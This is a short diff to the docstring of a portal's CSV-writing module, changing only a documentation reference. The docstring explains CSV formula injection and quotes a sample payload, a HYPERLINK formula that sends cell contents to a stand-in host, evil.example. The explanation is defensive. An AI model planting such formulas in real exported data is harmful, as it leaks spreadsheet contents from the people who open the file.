@@ -1,4 +1,4 @@
-"""The one writer for every CSV file the portal writes (QUALITY §4, OWASP "CSV Injection").
+"""The one writer for every CSV file the portal writes (docs/quality.md §4, OWASP "CSV Injection").
 
 A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, so a
 parent-typed address such as `=HYPERLINK("http://evil.example?"&A1,"Click")` would run on the office's
